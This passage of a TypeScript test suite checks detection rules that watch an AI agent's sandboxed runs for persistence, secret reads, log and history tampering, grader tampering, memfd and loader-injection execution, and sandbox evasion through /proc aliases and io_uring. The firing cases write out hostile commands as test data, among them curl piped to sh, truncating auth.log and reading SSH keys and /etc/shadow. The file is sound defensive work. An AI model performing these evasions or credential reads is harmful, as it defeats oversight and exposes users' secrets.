    benign: (t) => void t.open(1, `${WS}/docs/envrc.md`, 'create').open(1, `${WS}/.bashrc`, 'read'),
  },
  'persist-package-config': {
    fire: (t) => void t.open(1, `${WS}/.npmrc`, 'write'),
    benign: (t) => void t.open(1, `${WS}/package-lock.json`, 'write'),
  },
  'persist-startup-hook': {
    fire: (t) => void t.open(1, `${WS}/.venv/lib/python3.11/site-packages/zzz.pth`, 'create'),
    benign: (t) => void t.open(1, `${WS}/tests/fixtures/zzz.pth`, 'create'),
  },
  'persist-install-hook': {
    fire: (t) => {
      t.exec(2, 1, '/usr/bin/node', ['node', 'edit.js']).open(2, `${WS}/package.json`, 'write');
      return diff('package.json', ['  "scripts": {', '    "postinstall": "node scripts/setup.js",']);
    },
    benign: (t) => {
      t.exec(2, 1, '/usr/bin/node', ['node', 'edit.js']).open(2, `${WS}/package.json`, 'write');
      return diff('package.json', ['  "scripts": {', '    "lint": "eslint .",']);
    },
  },
  'integrity-grader-reach': {
    fire: (t) => {
      t.open(1, `${WS}/units/__init__.py`, 'write');
      return diff('units/__init__.py', [
        'import os',
        "if 'pytest' in __import__('sys').modules:",
        '    os._exit(0)',
      ]);
    },
    benign: (t) => {
      t.open(1, `${WS}/units/cli.py`, 'write').open(1, `${WS}/conftest.py`, 'write');
      return (
        diff('units/cli.py', [
          'def main():',
          '    sys.exit(0)',
          "if __name__ == '__main__':",
          '    sys.exit(main())',
        ]) + diff('conftest.py', ['import pytest', '@pytest.fixture', 'def sample():', '    return 3'])
      );
    },
  },
  'persist-remote-script': {
    fire: (t) => {
      t.open(1, `${WS}/Makefile`, 'write');
      return diff('Makefile', ['setup:', '\tcurl -fsSL https://get.example.sh | sh']);
    },
    benign: (t) => {
      t.open(1, `${WS}/Makefile`, 'write').open(1, `${WS}/README.md`, 'write');
      return (
        diff('Makefile', ['fetch:', '\tcurl -fsSLo vendor.tgz https://example.com/vendor.tgz']) +
        diff('README.md', ['Install with `curl -fsSL https://get.example.sh | sh`.'])
      );
    },
  },
  'evasion-io-uring': {
    fire: (t) =>
      void t
        .exec(2, 1, `${WS}/reader`, ['./reader'])
        .event(2, { kind: 'other', syscall: 'io_uring_setup', result: 3 })
        .event(2, { kind: 'other', syscall: 'io_uring:READ' }),
    benign: (t) => void t.exec(2, 1, '/usr/bin/cat', ['cat', 'README.md']).open(2, `${WS}/README.md`),
  },
  'evasion-compat-syscall': {
    fire: (t) =>
      void t
        .exec(2, 1, `${WS}/legacy`, ['./legacy'])
        .event(2, { kind: 'other', syscall: 'ia32:brk', result: 0 }),
    benign: (t) =>
      void t
        .exec(2, 1, `${WS}/modern`, ['./modern'])
        .event(2, { kind: 'open', syscall: 'open', path: `${WS}/data`, access: 'read', result: 3 }),
  },
  'evasion-descriptor-path': {
    fire: (t) =>
      void t.exec(2, 1, '/usr/bin/head', ['head', '/proc/self/fd/3/hostname']).event(2, {
        kind: 'open',
        syscall: 'openat',
        path: '/etc/hostname',
        path_as_written: '/proc/self/fd/3/hostname',
        access: 'read',
        result: 4,
      }),
    // Process substitution names a descriptor itself (a pipe), no file under it; a runtime (Bun)
    // makes its own folders under /tmp and workspace files through the alias.
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/diff', ['diff', '/dev/fd/63', 'b'])
        .open(2, '/dev/fd/63')
        .open(2, `${WS}/b`)
        .event(2, {
          kind: 'write-meta',
          syscall: 'mkdir',
          path: '/tmp/claude-1/tasks',
          path_as_written: '/proc/self/fd/12/tasks',
          result: 0,
        })
        .event(2, {
          kind: 'open',
          syscall: 'openat',
          path: `${WS}/notes.txt`,
          path_as_written: '/proc/self/fd/3/notes.txt',
          access: 'read',
          result: 4,
        }),
  },
  'evasion-truncated-path': {
    fire: (t) =>
      void t.exec(2, 1, '/usr/bin/cat', ['cat', 'f']).event(2, {
        kind: 'open',
        syscall: 'openat',
        path: '…/d/d/f',
        access: 'read',
        result: 3,
        truncated: true,
      }),
    // A long argv is cut too, and judged by the rules about execs, not as a cut path.
    benign: (t) =>
      void t.event(1, {
        kind: 'exec',
        syscall: 'execve',
        path: '/usr/bin/true',
        argv: ['true', ...Array.from({ length: 16 }, (_, i) => `a${i}`)],
        cwd: WS,
        result: 0,
        truncated: true,
      }),
  },
  'evasion-secure-delete': {
    fire: (t) =>
      void t.exec(2, 1, '/usr/bin/shred', ['shred', '-u', 'notes.txt']).meta(2, 'unlink', `${WS}/notes.txt`),
    benign: (t) =>
      void t.exec(2, 1, '/usr/bin/rm', ['rm', 'build.log']).meta(2, 'unlinkat', `${WS}/build.log`),
  },
  'evasion-history-tampering': {
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/rm', ['rm', '-f', '.bash_history'])
        .meta(2, 'unlinkat', `${HOME}/.bash_history`),
    benign: (t) =>
      void t.exec(2, 1, '/usr/bin/rm', ['rm', '.bash_history']).meta(2, 'unlinkat', `${WS}/.bash_history`),
  },
  'evasion-log-tampering': {
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/truncate', ['truncate', '-s0', '/var/log/auth.log'])
        .open(2, '/var/log/auth.log', 'write', -30),
    benign: (t) =>
      void t.exec(2, 1, '/usr/bin/tail', ['tail', '/var/log/dpkg.log']).open(2, '/var/log/dpkg.log'),
  },
  'exec-loader-injection': {
    // A hook the run wrote, preloaded into the real npm on node's command line.
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/tee', ['tee', '/tmp/hook.js'])
        .open(2, '/tmp/hook.js', 'create')
        .exec(3, 1, '/usr/bin/node', ['node', '-r', '/tmp/hook.js', '/usr/bin/npm', 'test']),
    // A heap size and a package preloaded: nothing the run wrote.
    benign: (t) =>
      void t.exec(3, 1, '/usr/bin/node', [
        'node',
        '--max-old-space-size=4096',
        '-r',
        'ts-node/register',
        'x.ts',
      ]),
  },
  'exec-memfd': {
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/python3', ['python3', 'x.py'])
        .event(2, { kind: 'other', syscall: 'memfd_create', path: 'memfd:payload', result: 3 })
        .event(2, {
          kind: 'exec',
          syscall: 'execveat',
          path: 'memfd:payload',
          path_as_written: '/dev/fd/3',
          argv: ['payload'],
          cwd: WS,
          result: 0,
        }),
    // A memory file used as a buffer, never run.
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/python3', ['python3', 'x.py'])
        .event(2, { kind: 'other', syscall: 'memfd_create', path: 'memfd:buffer', result: 3 })
        .exec(3, 2, '/usr/bin/true', ['true']),
  },
};

describe('default rules', () => {
  it('has a firing and a benign case for every default rule', () => {
    expect(Object.keys(CASES).sort()).toEqual(rules.rules.map((r) => r.id).sort());
  });

  for (const [id, c] of Object.entries(CASES)) {
    it(`${id} fires on its workload`, () => {
      const t = new Trace();
      const patch = c.fire(t);
      expect(ids(t, patch)).toContain(id);
    });
    it(`${id} stays silent on the honest look-alike (no alert at all)`, () => {
      const t = new Trace();
      const patch = c.benign(t);
      expect(run(t, patch)).toEqual([]);
    });
  }
});

describe('net-vendor-host', () => {
  it('a request or lookup for a vendor host is reported once, as the agent trying its vendor', () => {
    const t = new Trace();
    t.exec(2, 1, '/usr/bin/curl', ['curl', 'https://api.individual.githubcopilot.com/chat'])
      .connect(2, BRIDGE, -115)
      .record({
        host: 'api.individual.githubcopilot.com',
        port: 443,
        protocol: 'connect',
        decision: 'denied',
        method: 'CONNECT',
      })
      .record({ host: 'api.openai.com', port: 53, protocol: 'dns', decision: 'denied', method: 'A' });
    const alerts = run(t);
    expect(alerts.map((a) => a.rule)).toEqual(['net-vendor-host', 'net-vendor-host']);
    expect(alerts[0]?.message).toContain(
      'the agent tried to reach its vendor api.individual.githubcopilot.com instead of the configured endpoint',
    );
    expect(alerts[1]?.message).toContain('tried to reach its vendor api.openai.com');
  });

  it('without vendor hosts (no profile, or an old run) the generic proxy and DNS rules report them', () => {
    const t = new Trace();
    t.exec(2, 1, '/usr/bin/curl', ['curl', 'https://api.openai.com/v1/models'])
      .connect(2, BRIDGE, -115)
      .record({
        host: 'api.openai.com',
        port: 443,
        protocol: 'connect',
        decision: 'denied',
        method: 'CONNECT',
      })
      .record({ host: 'api.openai.com', port: 53, protocol: 'dns', decision: 'denied', method: 'A' });
    const { vendorHosts: _, ...ctx } = CTX;
    const alerts = evaluateRules({ syscalls: t.events, network: t.records }, rules, ctx);
    expect(alerts.map((a) => a.rule).sort()).toEqual(['net-dns-not-allowed', 'net-proxy-not-allowed']);
  });
});

describe('default rules on specific evasions', () => {
  it('procfs root and cwd aliases of a secret are reported as the secret itself', () => {
    const t = new Trace();
    t.exec(2, 1, '/usr/bin/head', ['head'], { cwd: `${HOME}/.ssh` })
      .open(2, `/proc/self/root${HOME}/.ssh/id_rsa`)
      .open(2, '/proc/1/root/etc/shadow')
      .open(2, '/proc/thread-self/root/proc/self/root//etc/./gshadow')
      .open(2, '/proc/2/cwd/id_ed25519')
      .open(2, `/proc/self/cwd/../.aws/credentials`);
    const alerts = run(t);
    expect(alerts.map((a) => [a.rule, a.path])).toEqual([
      ['secrets-canary-read', `${HOME}/.ssh/id_rsa`],
      ['secrets-system-credentials-read', '/etc/shadow'],
      ['secrets-system-credentials-read', '/etc/gshadow'],
      ['secrets-ssh-key-read', `${HOME}/.ssh/id_ed25519`],
      ['secrets-canary-read', `${HOME}/.aws/credentials`],
    ]);
  });

  it('a file the kernel resolved is judged by its path and identity; the alert shows the path as written', () => {
    const t = new Trace();
    t.exec(2, 1, '/usr/bin/head', ['head']).event(2, {
      kind: 'open',
      syscall: 'openat',
      path: `${HOME}/.ssh/id_rsa`,
      path_as_written: '/tmp/l/../../.ssh/id_rsa',
      access: 'read',
      result: 3,
    });
    // A hard link (or a bind) of a canary: another path, the canary's inode.
    t.exec(3, 1, '/usr/bin/head', ['head']).event(3, {
      kind: 'open',
      syscall: 'openat',
      path: '/tmp/k',
      access: 'read',
      result: 3,
      dev: 2049,
      ino: 77,
    });
    const ctx = { ...CTX, knownFiles: new Map([['2049:77', `${HOME}/.aws/credentials`]]) };
    const alerts = evaluateRules({ syscalls: t.events, network: [] }, rules, ctx).filter(
      (a) => a.rule === 'secrets-canary-read',
    );
    expect(alerts.map((a) => [a.path, a.path_as_written])).toEqual([
      [`${HOME}/.ssh/id_rsa`, '/tmp/l/../../.ssh/id_rsa'],
      [`${HOME}/.aws/credentials`, '/tmp/k'],
    ]);
    // Without the identity, /tmp/k is no canary.
    expect(ids(t).filter((id) => id === 'secrets-canary-read')).toHaveLength(1);
  });

  it('/proc/self/** is scratch only for what resolved inside it', () => {
    const t = new Trace();
    t.exec(2, 1, '/usr/bin/sh', ['sh']).event(2, {
      kind: 'open',
      syscall: 'openat',
      path: `${HOME}/.profile`,
      path_as_written: '/proc/self/fd/6/.profile',
      access: 'write',
      result: 3,
    });
    t.open(2, '/proc/self/fd/1', 'write').open(2, '/proc/self/attr/current', 'write');
    expect(run(t).map((a) => [a.rule, a.path])).toEqual([
      ['evasion-descriptor-path', `${HOME}/.profile`],
      ['integrity-protected-path', `${HOME}/.profile`],
    ]);
  });

  it('a secret read through the i386 table or an io_uring open is reported twice: the file and the mechanism', () => {
    const t = new Trace();
    t.exec(2, 1, `${WS}/a.out`, ['./a.out'])
      .event(2, { kind: 'open', syscall: 'ia32:open', path: '/etc/shadow', access: 'read', result: 3 })
      .event(2, {
        kind: 'open',
        syscall: 'io_uring:OPENAT',
        path: `${HOME}/.aws/credentials`,
        access: 'read',
      });
    expect(ids(t).sort()).toEqual([
      'evasion-compat-syscall',
      'evasion-io-uring',
      'secrets-canary-read',
      'secrets-system-credentials-read',
    ]);
  });

  it('ps asked to print environments (BSD e) is an environment read; ps -e is not', () => {
    const fire = new Trace();
    fire.exec(2, 1, '/usr/bin/ps', ['ps', 'auxe']).open(2, '/proc/4242/environ');
    fire.exec(3, 1, '/bin/ps', ['ps', 'ax', 'e']).open(3, '/proc/4242/environ');
    expect(ids(fire)).toEqual(['secrets-process-environment-read', 'secrets-process-environment-read']);
    const copied = new Trace();
    copied.open(1, '/tmp/ps', 'create').exec(2, 1, '/tmp/ps', ['ps', 'aux']).open(2, '/proc/4242/environ');
    expect(ids(copied)).toContain('secrets-process-environment-read');
  });

  it('a program run through /proc/self/fd is an untrusted exec from no path', () => {
    const t = new Trace();
    t.exec(2, 1, '/usr/bin/python3', ['python3', 'x.py']).exec(2, 1, '/proc/self/fd/3', ['x']);
    expect(ids(t).sort()).toEqual(['exec-memfd', 'exec-untrusted-dir']);
  });

  it('a fake npm (a script named npm) reading ~/.npmrc is still a canary read', () => {
    const t = new Trace();
    t.open(1, '/tmp/npm', 'create')
      .exec(2, 1, '/usr/bin/node', ['node', '/tmp/npm'])
      .open(2, `${HOME}/.npmrc`);
    expect(ids(t)).toContain('secrets-canary-read');
  });

  it('a hard link to a key is reported like a read', () => {
    const t = new Trace();
    t.exec(2, 1, '/usr/bin/ln', ['ln']).meta(2, 'link', `${HOME}/.ssh/id_ecdsa`, `${WS}/k`);
    expect(ids(t)).toContain('secrets-ssh-key-read');
  });

  it('moving a system file out into /tmp is a change outside the workspace', () => {
    const t = new Trace();
    t.exec(2, 1, '/usr/bin/mv', ['mv']).meta(2, 'rename', '/opt/app/config.ini', '/tmp/config.ini');
    expect(ids(t)).toEqual(['integrity-outside-workspace']);
  });

  it('a refused write to a protected file is critical even though nothing changed', () => {
    const t = new Trace();
    t.exec(2, 1, '/usr/bin/tee', ['tee']).open(2, '/etc/ld.so.preload', 'write', -30);
    expect(run(t).map((a) => [a.rule, a.severity])).toEqual([['integrity-protected-path', 'critical']]);
  });

  it('a download redirected by the shell and then run is caught through the writer pid', () => {
    const t = new Trace();
    t.fork(1, 2)
      .open(2, '/tmp/p', 'create')
      .exec(2, 1, '/usr/bin/wget', ['wget', '-qO-', 'http://x/p'])
      .connect(2, BRIDGE, -115)
      .exit(2)
      .exec(3, 1, '/usr/bin/chmod', ['chmod', '+x', '/tmp/p'])
      .meta(3, 'fchmodat', '/tmp/p')
      .exec(4, 1, '/tmp/p', ['/tmp/p']);
    expect(ids(t)).toEqual(['exec-untrusted-dir', 'exec-downloaded']);
  });

  it('go run executing its build output in /tmp is not an untrusted program', () => {
    const t = new Trace();
    t.exec(2, 1, '/usr/lib/go/bin/go', ['go', 'run', '.'])
      .exec(3, 2, '/usr/lib/go/pkg/tool/linux_amd64/link', ['link', '-o', '/tmp/go-build1/b001/exe/main'])
      .open(3, '/tmp/go-build1/b001/exe/main', 'create')
      .exec(4, 2, '/tmp/go-build1/b001/exe/main', ['main']);
    expect(run(t)).toEqual([]);
  });

  it('a .git/config edit by a non-git process is reported', () => {
    const t = new Trace();
    t.exec(2, 1, '/usr/bin/python3', ['python3', 'x.py']).open(2, `${WS}/.git/config`, 'write');
    expect(ids(t)).toEqual(['persist-git-config']);
  });
});

describe('exec-setid-capset under the run user', () => {
  const RUN = { uid: 2147446975, gid: 2147446975 };
  const judged = (ctx: typeof CTX, call: string, result: number, ids?: number[]) => {
    const t = new Trace().exec(2, 1, '/usr/bin/busybox', ['ls']);
    t.event(2, { kind: 'privilege', syscall: call, result, ...(ids ? { ids } : {}) });
    return evaluateRules({ syscalls: t.events, network: [] }, rules, ctx).map((a) => a.rule);
  };
  const asRunUser = { ...CTX, runUser: RUN };

  it('a successful drop to the ids the run user holds is no change (busybox at each start)', () => {
    expect(judged(asRunUser, 'setgid', 0, [RUN.gid])).toEqual([]);
    expect(judged(asRunUser, 'setuid', 0, [RUN.uid])).toEqual([]);
    expect(judged(asRunUser, 'setresuid', 0, [-1, RUN.uid, -1])).toEqual([]);
    // The collector records no ids: success under a capability-less user is the proof.
    expect(judged(asRunUser, 'setuid', 0)).toEqual([]);
  });

  it('a raise, a refusal, another id, setgroups, capset, or no run user still alert', () => {
    expect(judged(asRunUser, 'setuid', -1, [0])).toEqual(['exec-setid-capset']);
    expect(judged(asRunUser, 'setuid', 0, [0])).toEqual(['exec-setid-capset']);
    expect(judged(asRunUser, 'setresgid', 0, [-1, -1, 0])).toEqual(['exec-setid-capset']);
    // A gid call judged against the gid, not the uid.
    expect(judged({ ...CTX, runUser: { uid: 1000, gid: 2000 } }, 'setgid', 0, [1000])).toEqual([
      'exec-setid-capset',
    ]);
    expect(judged(asRunUser, 'setgroups', 0)).toEqual(['exec-setid-capset']);
    expect(judged(asRunUser, 'capset', 0)).toEqual(['exec-setid-capset']);
    expect(judged(asRunUser, 'setfsuid', RUN.uid, [RUN.uid])).toEqual(['exec-setid-capset']);
    expect(judged(CTX, 'setuid', 0, [RUN.uid])).toEqual(['exec-setid-capset']);
  });
});
